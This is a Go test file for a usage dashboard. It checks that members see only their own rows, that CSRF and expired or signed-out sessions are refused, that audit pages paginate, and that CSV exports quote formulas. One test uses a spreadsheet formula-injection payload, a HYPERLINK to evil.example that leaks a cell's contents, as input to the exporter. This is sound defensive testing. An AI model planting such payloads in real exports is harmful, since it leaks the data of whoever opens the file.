package dashboard_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"byokd.dev/byok"
	"byokd.dev/byok/hub"
)

// now is the hub's clock at start: the real time, since the cookie jar
// expires the session cookie by it; seeded calls fall on the second day
// of the current month.
var (
	now    = time.Now().UTC()
	seeded = time.Date(now.Year(), now.Month(), 2, 12, 0, 0, 0, time.UTC)
)

// seedTwo stores calls for ann and for bob; bob's carry markers that must
// never reach ann's pages.
func seedTwo(t *testing.T, h *testHub) {
	t.Helper()
	ctx := context.Background()
	ann := []byok.UsageEvent{
		ev("a1", seeded.Add(-time.Hour), byok.OpenAI, byok.PayerPersonal, "acme", 1_111),
		ev("a2", seeded.Add(-2*time.Hour), byok.Anthropic, byok.PayerPersonal, "acme", 2_222),
		ev("a3", seeded.Add(-3*time.Hour), byok.OpenAI, byok.PayerTeam, "acme", 3_333),
	}
	bob := []byok.UsageEvent{
		ev("b1", seeded.Add(-time.Hour), byok.OpenAI, byok.PayerTeam, "bob-secret-project", 7_770_000),
		ev("b2", seeded.Add(-5*time.Hour), byok.Anthropic, byok.PayerPersonal, "bob-secret-project", 8_880_000),
	}
	bob[0].FallbackReason, bob[0].Model, bob[0].App = "insufficient_quota", "bob-model", "bob-app"
	if err := h.store.IngestUsage(ctx, "ann@example.com", "dev-ann", ann); err != nil {
		t.Fatal(err)
	}
	if err := h.store.IngestUsage(ctx, "bob@example.com", "dev-bob", bob); err != nil {
		t.Fatal(err)
	}
}

// bobMarks are what of bob's rows a page could show.
var bobMarks = []string{"bob@example.com", "bob-secret-project", "bob-model", "bob-app", "$7.77", "$8.88", "7.770000", "8.880000", "$16.65"}

// TestDashboard_MemberSeesOnlyOwnRows: a member's session reaches no
// other member's rows, whatever page, parameter or CSV it asks for, and
// none of the admin's pages or forms.
func TestDashboard_MemberSeesOnlyOwnRows(t *testing.T) {
	h := startHub(t, "", now)
	seedTwo(t, h)
	h.memberBrowser(t, "bob@example.com") // bob has a device too: the members page lists devices
	ann := h.memberBrowser(t, "ann@example.com")
	admin := h.adminBrowser(t, "boss@example.com")

	paths := []string{"/ui/overview", "/ui/members", "/ui/shared", "/ui/projects", "/ui/reports", "/ui/audit",
		"/ui/audit?member=bob%40example.com", "/ui/audit?project=bob-secret-project", "/ui/audit?fallback=1&member=bob%40example.com",
		"/ui/overview?member=bob%40example.com", "/ui/shared?member=bob%40example.com", "/ui/projects?member=bob%40example.com",
		"/ui/reports.csv", "/ui/reports.csv?member=bob%40example.com", "/ui/reports.csv?period=" + quarterOf(seeded),
		"/ui/members?period=" + quarterOf(seeded), "/ui/audit?model=bob-model&period=" + quarterOf(seeded)}
	for _, p := range paths {
		st, body := ann.get(p)
		if st != http.StatusOK {
			t.Errorf("ann GET %s: status %d, want 200: %.200s", p, st, body)
			continue
		}
		for _, m := range bobMarks {
			// A filter form shows back what was asked; that is not bob's row.
			if strings.Contains(body, m) && !strings.Contains(p, url.QueryEscape(m)) {
				t.Errorf("ann GET %s shows %q, which is bob's", p, m)
			}
		}
	}
	// The same pages show bob's rows to the admin: the marks above are
	// the ones a leak would show.
	for _, p := range []string{"/ui/overview", "/ui/reports.csv", "/ui/audit?member=bob%40example.com", "/ui/projects"} {
		_, body := admin.get(p)
		if !strings.Contains(body, "bob") && !strings.Contains(body, "$16.65") {
			t.Errorf("admin GET %s: bob's rows missing: the test's marks would not show a leak", p)
		}
	}
	_, body := ann.get("/ui/overview")
	if !strings.Contains(body, `id="total">$0.006666<`) {
		t.Errorf("ann's overview: want her own total $0.006666: %s", body)
	}

	for _, p := range []string{"/ui/policy", "/ui/devices"} {
		if st, _ := ann.get(p); st != http.StatusForbidden {
			t.Errorf("ann GET %s: status %d, want 403", p, st)
		}
	}
	before := h.Policy().Version
	for _, p := range []string{"/ui/policy", "/ui/invites", "/ui/devices/revoke"} {
		if st, _ := ann.post(p, url.Values{"shared": {"openai"}, "email": {"eve@example.com"}}); st != http.StatusForbidden {
			t.Errorf("ann POST %s: status %d, want 403", p, st)
		}
	}
	if h.Policy().Version != before {
		t.Error("a member's POST changed the policy")
	}
}

// TestDashboard_CSRFRefused: a form without the session's token, with
// another session's token, or sent from another site changes nothing.
func TestDashboard_CSRFRefused(t *testing.T) {
	h := startHub(t, "", now)
	admin := h.adminBrowser(t, "boss@example.com")
	other := h.adminBrowser(t, "other@example.com")
	tok, otherTok := admin.csrf("/ui/policy"), other.csrf("/ui/policy")
	if tok == otherTok {
		t.Fatal("two sessions share a CSRF token")
	}
	form := func(tok string) url.Values { return url.Values{"csrf": {tok}, "shared": {"openai"}, "cap": {"5"}} }
	for name, send := range map[string]func() int{
		"no token":            func() int { st, _ := admin.post("/ui/policy", form("")); return st },
		"another session's":   func() int { st, _ := admin.post("/ui/policy", form(otherTok)); return st },
		"an invite, no token": func() int { st, _ := admin.post("/ui/invites", url.Values{"email": {"eve@example.com"}}); return st },
		"a revoke, wrong token": func() int {
			st, _ := admin.post("/ui/devices/revoke", url.Values{"csrf": {tok + "x"}, "id": {"x"}})
			return st
		},
		"from another site": func() int {
			req, _ := http.NewRequest(http.MethodPost, admin.base+"/ui/policy", strings.NewReader(form(tok).Encode()))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			req.Header.Set("Sec-Fetch-Site", "cross-site")
			st, _ := admin.do(req)
			return st
		},
	} {
		if st := send(); st != http.StatusForbidden {
			t.Errorf("%s: status %d, want 403", name, st)
		}
	}
	if v := h.Policy().Version; v != 0 {
		t.Fatalf("policy version %d after refused forms, want 0", v)
	}
	if st, body := admin.post("/ui/policy", form(tok)); st != http.StatusSeeOther {
		t.Fatalf("the page's own form: status %d: %s", st, body)
	}
	if p := h.Policy(); p.Version != 1 || p.MemberMonthlyCap != byok.USD(5) || !p.SharedAllowed(byok.OpenAI) {
		t.Errorf("policy after the form: %+v", p)
	}
}

// TestDashboard_SessionExpired: once SessionTTL has passed, the session
// reads nothing and changes nothing.
func TestDashboard_SessionExpired(t *testing.T) {
	h := startHub(t, "", now)
	seedTwo(t, h)
	admin := h.adminBrowser(t, "boss@example.com")
	tok := admin.csrf("/ui/policy")
	if st, _ := admin.get("/ui/overview"); st != http.StatusOK {
		t.Fatalf("fresh session: status %d", st)
	}
	h.clock.Add(hub.DefaultSessionTTL + time.Minute)
	for _, p := range []string{"/ui/overview", "/ui/audit", "/ui/reports.csv", "/ui/policy"} {
		if st, body := admin.get(p); st != http.StatusUnauthorized || strings.Contains(body, "ann@example.com") {
			t.Errorf("expired session GET %s: status %d, want 401", p, st)
		}
	}
	if st, _ := admin.post("/ui/policy", url.Values{"csrf": {tok}, "shared": {"openai"}}); st != http.StatusUnauthorized {
		t.Errorf("expired session POST: status %d, want 401", st)
	}
	if h.Policy().Version != 0 {
		t.Error("an expired session changed the policy")
	}
}

func quarterOf(t time.Time) string { return fmt.Sprintf("%d-Q%d", t.Year(), (int(t.Month())+2)/3) }

// TestDashboard_AuditPages follows the audit log's "older" links to the
// end and finds every call of the period once, newest first, then the
// "newer" links back to the first page, which has none.
func TestDashboard_AuditPages(t *testing.T) {
	h := startHub(t, "", now)
	var evs []byok.UsageEvent
	for i := range 123 {
		evs = append(evs, ev(fmt.Sprintf("c%03d", i), seeded.Add(time.Duration(i)*time.Minute), byok.OpenAI, byok.PayerPersonal, "acme", 10))
	}
	if err := h.store.IngestUsage(context.Background(), "ann@example.com", "dev-ann", evs); err != nil {
		t.Fatal(err)
	}
	admin := h.adminBrowser(t, "boss@example.com")
	// page reads a page's time cells and its link with id.
	page := func(path, id string) (times []string, next string) {
		t.Helper()
		st, body := admin.get(path)
		if st != http.StatusOK {
			t.Fatalf("GET %s: status %d", path, st)
		}
		for _, cell := range strings.Split(body, "<td>"+seeded.Format("2006-01-02"))[1:] {
			hm, _, _ := strings.Cut(cell, "<")
			times = append(times, hm)
		}
		if _, rest, ok := strings.Cut(body, `id="`+id+`" href="`); ok {
			next, _, _ = strings.Cut(rest, `"`)
			next = strings.ReplaceAll(next, "&amp;", "&")
		}
		return times, next
	}
	var down [][]string
	var newer string // the last page's link to newer calls
	for path := "/ui/audit"; path != ""; {
		times, older := page(path, "older")
		_, newer = page(path, "newer")
		down = append(down, times)
		path = older
	}
	var seen []string
	for _, p := range down {
		seen = append(seen, p...)
	}
	var want []string
	for i := len(evs) - 1; i >= 0; i-- {
		want = append(want, evs[i].Time.Format(" 15:04 UTC"))
	}
	if diff := cmp.Diff(want, seen); diff != "" {
		t.Fatalf("calls on the audit pages going older (-want +got):\n%s", diff)
	}
	if _, first := page("/ui/audit", "newer"); first != "" {
		t.Errorf("the first page links to newer calls: %s", first)
	}
	// From the last page back up, the same pages in reverse.
	var up [][]string
	for path := newer; path != ""; {
		var times []string
		times, path = page(path, "newer")
		up = append(up, times)
	}
	slices.Reverse(up)
	if diff := cmp.Diff(down[:len(down)-1], up); diff != "" {
		t.Errorf("pages going newer from the last (-want +got):\n%s", diff)
	}
}

// TestDashboard_MemberSessionEndsWithLastDevice: once the admin revokes a
// member's device, the member's session reads nothing.
func TestDashboard_MemberSessionEndsWithLastDevice(t *testing.T) {
	h := startHub(t, "", now)
	seedTwo(t, h)
	ann := h.memberBrowser(t, "ann@example.com")
	if st, _ := ann.get("/ui/overview"); st != http.StatusOK {
		t.Fatalf("ann's session: status %d", st)
	}
	devs, err := h.admin.Devices(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range devs {
		if err := h.admin.Revoke(context.Background(), d.ID); err != nil {
			t.Fatal(err)
		}
	}
	if st, _ := ann.get("/ui/overview"); st != http.StatusUnauthorized {
		t.Errorf("ann's session after her device was revoked: status %d, want 401", st)
	}
}

// TestDashboard_SignOut: the button ends the session on the hub, not only
// in the browser (the cookie, replayed, reads nothing), and needs the
// session's token, so that another page cannot sign anyone out.
func TestDashboard_SignOut(t *testing.T) {
	h := startHub(t, "", now)
	seedTwo(t, h)
	admin := h.adminBrowser(t, "boss@example.com")
	tok := admin.csrf("/ui/overview")
	u, _ := url.Parse(admin.base)
	cookies := admin.c.Jar.Cookies(u)
	if len(cookies) != 1 {
		t.Fatalf("cookies after sign-in: %v, want the session's", cookies)
	}
	if st, _ := admin.post("/ui/signout", url.Values{"csrf": {"forged"}}); st != http.StatusForbidden {
		t.Errorf("sign out with a forged token: status %d, want 403", st)
	}
	if st, _ := admin.get("/ui/overview"); st != http.StatusOK {
		t.Fatalf("after a refused sign-out: status %d, want the session to work", st)
	}
	st, body := admin.post("/ui/signout", url.Values{"csrf": {tok}})
	if st != http.StatusOK || !strings.Contains(body, "signed out") || !strings.Contains(body, "byokd team") {
		t.Fatalf("sign out: status %d: %s", st, body)
	}
	if left := admin.c.Jar.Cookies(u); len(left) != 0 {
		t.Errorf("cookies in the browser after sign-out: %v, want none", left)
	}
	// The same cookie, sent again (a copy, another tab's jar): the hub no
	// longer knows the session.
	replay := &browser{tb: t, base: admin.base, c: &http.Client{CheckRedirect: admin.c.CheckRedirect}}
	for _, p := range []string{"/ui/overview", "/ui/reports.csv"} {
		req, _ := http.NewRequest(http.MethodGet, admin.base+p, nil)
		req.AddCookie(cookies[0])
		if st, body := replay.do(req); st != http.StatusUnauthorized || strings.Contains(body, "ann@example.com") {
			t.Errorf("GET %s with the signed-out cookie: status %d, want 401", p, st)
		}
	}
}

// TestDashboard_CSVFormulaQuoted: a project tag a member chose that a
// spreadsheet would run as a formula arrives in the CSV as text (a leading
// quote), the same tag on the page as written; amounts stay numbers.
func TestDashboard_CSVFormulaQuoted(t *testing.T) {
	h := startHub(t, "", now)
	tags := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(A1)", "\tx", "plain"}
	var evs []byok.UsageEvent
	for i, tag := range tags {
		evs = append(evs, ev(fmt.Sprintf("c%d", i), seeded.Add(-time.Duration(i+1)*time.Hour), byok.OpenAI, byok.PayerPersonal, tag, 1_000))
	}
	if err := h.store.IngestUsage(context.Background(), "ann@example.com", "dev-ann", evs); err != nil {
		t.Fatal(err)
	}
	admin := h.adminBrowser(t, "boss@example.com")
	st, body := admin.get("/ui/reports.csv")
	if st != http.StatusOK {
		t.Fatalf("CSV: status %d", st)
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%s", err, body)
	}
	projects := map[string]bool{}
	for _, rec := range recs[1:] {
		projects[rec[4]] = true
		if cost := rec[len(rec)-2]; cost != "0.001000" {
			t.Errorf("cost cell %q, want the plain number 0.001000", cost)
		}
	}
	for _, tag := range tags {
		want := tag
		if tag != "plain" {
			want = "'" + tag
		}
		if !projects[want] {
			t.Errorf("project %q: not in the CSV as %q; projects: %v", tag, want, projects)
		}
	}
	if _, page := admin.get("/ui/projects"); !strings.Contains(page, "=HYPERLINK(") || strings.Contains(page, "&#39;=HYPERLINK") {
		t.Error("the projects page should show the tag as the member wrote it")
	}
}
